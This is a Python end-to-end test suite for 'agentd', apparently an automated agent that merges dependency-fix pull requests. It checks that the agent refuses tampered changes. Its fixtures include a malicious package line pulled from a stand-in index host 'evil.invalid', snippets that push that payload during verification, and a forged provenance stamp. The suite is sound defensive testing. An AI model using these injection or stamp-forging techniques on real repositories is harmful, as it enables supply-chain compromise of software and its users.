"""Attacks on what agentd merges: it merges exactly the change it built, checked and verified.

Issue "Wave 2 — 2/6", findings 3 (native PR adoption), 4 (merge pinned to what was
verified), 5 (verification rewriting the change) and 10 (PR identity, reviewer commits).
Each test drives the real CLI against the simulator and fails on the code before the fix.
"""

from __future__ import annotations

import subprocess
import sys
from pathlib import Path
from typing import Any

import yaml
from e2e import E2E, e2e

from agentd.units import branch_name, remediation_key
from agentd.vocabulary import AlertClass

EVIL = "requests==2.32.4\nevil==6.6.6 --index-url=https://evil.invalid/simple\n"
NATIVE_BODY = "Bumps [requests](https://github.com/psf/requests) from 2.25.0 to 2.32.4."
NATIVE_BRANCH = "dependabot/pip/requests-2.32.4"
DEFAULT_TEMPLATE = "security/{alert_class}/{target_id}/{remediation_key_short}"


def repo(**extra: Any) -> dict[str, Any]:
    return {
        "name": "api",
        "files": {"requirements.txt": "requests==2.25.0\n", "app.py": "print('hi')\n"},
        "checks": [{"name": "ci", "outcome": "success"}],
        "protection": {"required_checks": ["ci"]},
        **extra,
    }


def scenario(*repos: dict[str, Any]) -> dict[str, Any]:
    return {"owner": {"login": "acme-org", "type": "org"}, "repositories": list(repos)}


def native(
    files: dict[str, str], branch: str = NATIVE_BRANCH, body: str = NATIVE_BODY
) -> dict[str, Any]:
    return {
        "branch": branch,
        "title": "Bump requests from 2.25.0 to 2.32.4",
        "body": body,
        "files": files,
    }


def unsandboxed(env: E2E, commands: list[str] | None = None) -> None:
    """These attacks model a concurrent person, not repository code: no sandbox needed."""
    profile = yaml.safe_load(env.profile_path.read_text())
    profile["profile"]["verification"] = {"sandbox": "none"}
    if commands is not None:
        profile["repositories"][0]["targets"][0]["verification_commands"] = commands
    env.profile_path.write_text(yaml.safe_dump(profile))


def main_file(env: E2E, path: str = "requirements.txt") -> str:
    return subprocess.run(
        ["git", "--git-dir", str(env.sim.remote_path("api")), "show", f"main:{path}"],
        capture_output=True, text=True, check=False,
    ).stdout  # fmt: skip


def agentd_branch() -> str:
    key = remediation_key("acme-org", "api", AlertClass.DEPENDABOT, "main", "root")
    return branch_name(DEFAULT_TEMPLATE, AlertClass.DEPENDABOT, "root", key, "api")


def pulls(env: E2E) -> dict[str, dict[str, Any]]:
    return {p["head"]: p for p in env.sim.admin.pulls("api")}


def test_a_native_pr_carrying_another_persons_commit_is_not_adopted(tmp_path: Path) -> None:
    scene = scenario(repo(dependabot_prs=[native({"requirements.txt": "requests==2.32.4\n"})]))
    with e2e(tmp_path, scene, [{"repo": "api"}]) as env:
        env.sim.admin.push("api", NATIVE_BRANCH, {"requirements.txt": EVIL}, "also this")
        result, summary = env.run()
        assert result.returncode == 0, result.stderr[-2000:]
        [unit] = env.units(summary, alert_class="dependabot")
        assert unit["pr_source"] == "agent_managed" and unit["outcome"] == "merged", unit
        assert any("left alone: it carries commits by" in n for n in unit["notes"]), unit["notes"]
        assert not pulls(env)[NATIVE_BRANCH]["merged"]
        assert main_file(env) == "requests==2.32.4\n"


def test_a_native_pr_that_changes_more_than_the_fix_is_not_adopted(tmp_path: Path) -> None:
    shapes = [
        {
            "requirements.txt": "requests==2.32.4\n",
            "tools/requirements-ci.txt": "--extra-index-url https://evil.invalid/simple\nevil==6.6.6\n",
        },
        {"requirements.txt": "requests==2.32.4\nflask>=2.0\n"},
    ]
    for index, files in enumerate(shapes):
        with e2e(
            tmp_path / str(index), scenario(repo(dependabot_prs=[native(files)])), [{"repo": "api"}]
        ) as env:
            _, summary = env.run()
            [unit] = env.units(summary, alert_class="dependabot")
            assert unit["pr_source"] == "agent_managed", (files, unit)
            assert any("left alone: its change differs" in n for n in unit["notes"]), unit["notes"]
            assert not pulls(env)[NATIVE_BRANCH]["merged"]
            assert main_file(env) == "requests==2.32.4\n"
            assert main_file(env, "tools/requirements-ci.txt") == ""


def test_a_push_to_agentds_branch_at_label_time_is_never_merged(tmp_path: Path) -> None:
    branch = agentd_branch()
    with e2e(tmp_path, scenario(repo()), [{"repo": "api"}]) as env:
        env.sim.admin.inject(
            "push", route=r"/issues/\d+/labels$", method="POST",
            push={"repo": "api", "branch": branch, "files": {"requirements.txt": EVIL}},
        )  # fmt: skip
        result, summary = env.run()
        assert result.returncode == 0, result.stderr[-2000:]
        [unit] = env.units(summary, alert_class="dependabot")
        assert unit["outcome"] == "opened_pr", unit
        assert "edited by a person" in unit["detail"]
        assert not pulls(env)[branch]["merged"] and "evil" not in main_file(env)
        assert not [
            r for r in env.sim.admin.requests() if r.method == "PUT" and r.path.endswith("/merge")
        ]


def test_a_push_to_the_native_branch_during_verification_is_never_merged(tmp_path: Path) -> None:
    marker = tmp_path / "pushed-once"
    push = (
        "import json, os, pathlib, urllib.request;"
        f"m = pathlib.Path({str(marker)!r});"
        "m.exists() or (m.write_text('x'), urllib.request.urlopen(urllib.request.Request("
        "os.environ['SIM'] + '/_sim/push', method='POST', headers={'Content-Type': 'application/json'},"
        f"data=json.dumps({{'repo': 'api', 'branch': {NATIVE_BRANCH!r}, 'files': {{'requirements.txt': {EVIL!r}}}}}).encode())))"
    )
    scene = scenario(repo(dependabot_prs=[native({"requirements.txt": "requests==2.32.4\n"})]))
    with e2e(tmp_path, scene, [{"repo": "api"}]) as env:
        command = f'env SIM={env.sim.api_url} {sys.executable} -c "{push}"'
        unsandboxed(env, [command])
        result, _ = env.run()
        assert result.returncode == 0, result.stderr[-2000:]
        assert marker.exists()
        assert not pulls(env)[NATIVE_BRANCH]["merged"]
        assert "evil" not in main_file(env)


def test_what_verification_writes_after_the_check_is_never_committed(tmp_path: Path) -> None:
    tamper = f"import pathlib;pathlib.Path('requirements.txt').write_text({EVIL!r})"
    with e2e(tmp_path, scenario(repo()), [{"repo": "api"}]) as env:
        unsandboxed(env, [f'{sys.executable} -c "{tamper}"'])
        _, summary = env.run()
        [unit] = env.units(summary, alert_class="dependabot")
        assert (unit["outcome"], unit["reason_code"]) == ("blocked", "verification_failed"), unit
        assert "verification changed requirements.txt" in unit["detail"]
        assert env.sim.admin.pulls("api") == [] and main_file(env) == "requests==2.25.0\n"


def test_a_reviewers_commit_on_agentds_branch_is_never_pushed_over(tmp_path: Path) -> None:
    pending = repo(checks=[{"name": "ci", "outcome": "pending"}])
    with e2e(tmp_path, scenario(pending), [{"repo": "api"}]) as env:
        _, summary = env.run()
        [unit] = env.units(summary, alert_class="dependabot")
        assert unit["remaining_blocker"] == "checks_pending", unit
        branch = agentd_branch()
        reviewed = env.sim.admin.push("api", branch, {"NOTES.md": "reviewed\n"}, "review fixup")
        env.sim.admin.set_check("api", "ci", "success")
        _, summary = env.run()
        [unit] = env.units(summary, alert_class="dependabot")
        assert unit["outcome"] == "opened_pr" and "edited by a person" in unit["detail"], unit
        assert env.sim.admin.branches("api")[branch] == reviewed
        assert not pulls(env)[branch]["merged"]


def test_a_pr_by_someone_else_on_agentds_branch_is_never_pushed_to_or_restamped(
    tmp_path: Path,
) -> None:
    branch = agentd_branch()
    foreign = native({"NOTES.md": "mine\n"}, branch=branch, body="my own work")
    with e2e(tmp_path, scenario(repo(dependabot_prs=[foreign])), [{"repo": "api"}]) as env:
        before = env.sim.admin.branches("api")[branch]
        _, summary = env.run()
        assert env.sim.admin.branches("api")[branch] == before
        assert pulls(env)[branch]["body"] == "my own work" and not pulls(env)[branch]["merged"]
        [unit] = env.units(summary, alert_class="dependabot")
        assert (
            unit["outcome"] in ("blocked", "opened_pr") and "edited by a person" in unit["detail"]
        )


def test_a_copied_stamp_on_someone_elses_pr_is_never_trusted(tmp_path: Path) -> None:
    key = remediation_key("acme-org", "api", AlertClass.DEPENDABOT, "main", "gone")
    stamp = (
        '<!-- agentd:remediation {"schema_version": 1, "remediation_key": "' + key + '", '
        '"alert_class": "dependabot", "target_id": "gone", "base_branch": "main", '
        '"advisory_ids": ["GHSA-9hjg-9r4m-mvj7"], "agent_version": "0.1.0", '
        '"last_pass_at": "2026-01-01T00:00:00+00:00"} -->'
    )
    theirs = native({"NOTES.md": "x\n"}, branch="security/dependabot/gone/0123456789ab", body=stamp)
    with e2e(tmp_path, scenario(repo(dependabot_prs=[theirs])), [{"repo": "api"}]) as env:
        result, summary = env.run()
        assert result.returncode == 0, result.stderr[-2000:]
        pull = pulls(env)["security/dependabot/gone/0123456789ab"]
        assert pull["state"] == "open" and pull["comments"] == []
        assert not env.units(summary, pr_number=pull["number"])


def test_alerts_dismissed_while_agentd_works_stop_the_pr(tmp_path: Path) -> None:
    dismiss = (
        "import os, urllib.request;"
        "[urllib.request.urlopen(urllib.request.Request(os.environ['SIM'] + "
        "f'/_sim/alerts/api/dependabot/{n}/dismiss', method='POST', data=b'{}', "
        "headers={'Content-Type': 'application/json'})) for n in (1, 2, 3)]"
    )
    with e2e(tmp_path, scenario(repo()), [{"repo": "api"}]) as env:
        alerts = env.sim.admin.alerts("api", "dependabot")
        assert sorted(a["number"] for a in alerts) == [1, 2, 3]
        unsandboxed(env, [f'env SIM={env.sim.api_url} {sys.executable} -c "{dismiss}"'])
        _, summary = env.run()
        [unit] = env.units(summary, alert_class="dependabot")
        assert (unit["outcome"], unit["reason_code"]) == ("skipped", "superseded"), unit
        assert env.sim.admin.pulls("api") == [] and main_file(env) == "requests==2.25.0\n"
